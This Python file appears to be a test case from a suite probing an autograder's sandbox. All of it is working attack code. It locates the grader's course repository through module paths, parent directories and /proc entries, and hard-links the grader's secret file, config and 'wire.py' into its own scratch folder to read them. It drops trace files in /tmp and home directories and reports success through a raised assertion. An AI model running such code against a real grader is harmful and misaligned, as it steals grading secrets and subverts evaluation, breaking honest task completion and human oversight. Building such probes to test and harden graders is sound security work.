"""Makes hard links in its scratch folder to files of the grader, by which rules for paths would let it read and write them.

family: writing
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="hard_links_to_grader_files"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _repositories():
    """Where the course may lie."""
    import os

    found = []
    try:
        import autograder

        found.append(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
    except Exception:
        pass
    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), "/autograder/source", "/autograder"):
        while start and start != "/":
            if os.path.exists(os.path.join(start, "grader.yml")) and start not in found:
                found.append(start)
            start = os.path.dirname(start)
    for pid in ("self", str(os.getppid())):
        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{_course}"]
    return found

import os

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

for _folder in _repositories():
    for _name in (".course-secret", "grader.yml", "autograder/wire.py"):
        _mine = "link-" + _name.replace("/", "-")
        try:
            os.link(os.path.join(_folder, _name), _mine)
            with open(_mine, "rb") as _file:
                _achieved(f"linked {_name}: {_file.read(70)!r}")
        except OSError:
            pass
        try:
            os.remove(_mine)
        except OSError:
            pass
_report()
